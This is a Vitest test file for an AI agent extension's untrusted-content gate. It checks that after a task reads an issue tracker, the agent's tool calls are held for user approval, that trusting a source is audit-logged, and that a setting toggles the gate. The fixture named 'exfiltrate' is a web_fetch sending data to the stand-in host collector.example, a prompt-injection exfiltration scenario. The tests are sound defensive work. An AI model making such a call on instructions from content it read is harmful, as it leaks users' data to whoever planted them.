import { describe, expect, it } from "vitest";
import type { ToolInfo } from "../../../src/shared/messages";
import { makeHost } from "./harness";

const exfiltrate: ToolInfo = {
  name: "web_fetch",
  params: { url: "https://collector.example/x" },
  status: "pending",
  decision: {
    decision: "ask",
    reason:
      "This task read content from tracker/fetch_issue, which may carry instructions from someone else. Sending data to collector.example needs your approval.",
    rule: "untrusted-content",
    taintedBy: ["tracker/fetch_issue"],
  },
};

describe("the untrusted-content chip and the trust answer, host side", () => {
  it("the host tells every webview what the open task has read; a reopened webview gets it in the task view", async () => {
    const h = makeHost();
    const a = h.webview("sidebar");
    await a.send({ type: "ready" });
    await a.send({ type: "newTask", requestId: 1, text: "triage" });
    const s = h.factory.created[0]!;
    s.setTaint(["tracker/fetch_issue"]);
    expect(a.fake.ofType("taskTaint").at(-1)).toMatchObject({ taskId: s.id, sources: ["tracker/fetch_issue"] });
    expect(h.logs).toContain(`info: [task ${s.id}] untrusted content: read untrusted content from tracker/fetch_issue`);
    const b = h.webview("editor");
    await b.send({ type: "ready" });
    const state = b.fake.ofType("state").at(-1)!;
    expect(state.state.task?.untrustedSources).toEqual(["tracker/fetch_issue"]);
  });

  it("Trust this source reaches the task and is written to the audit log", async () => {
    const h = makeHost();
    const a = h.webview("sidebar");
    await a.send({ type: "ready" });
    await a.send({ type: "newTask", requestId: 1, text: "triage" });
    const s = h.factory.created[0]!;
    const askId = s.ask(exfiltrate);
    h.timer.runAll();
    await a.send({ type: "answerAsk", requestId: 2, messageId: askId, response: { kind: "trustSource" } });
    expect(s.answers).toEqual([{ messageId: askId, response: { kind: "trustSource" } }]);
    expect(h.logs.some((l) => /TRUSTED THE SOURCES FOR THIS TASK .*tracker\/fetch_issue/.test(l))).toBe(true);
  });
});

describe("toolgate.untrustedContent from the panel", () => {
  it("the panel's switch writes the user setting, and the settings view reports it", async () => {
    const h = makeHost();
    const a = h.webview("sidebar");
    await a.send({ type: "ready" });
    expect(a.fake.ofType("state").at(-1)!.state.settings.untrustedContent).toBe("ask");
    await a.send({ type: "setSetting", requestId: 1, change: { key: "untrustedContent", value: "off" } });
    expect(h.config.global.get("untrustedContent")).toBe("off");
    await a.send({ type: "setSetting", requestId: 2, change: { key: "untrustedContent", value: "never" } as never });
    expect(h.config.global.get("untrustedContent")).toBe("off");
  });
});
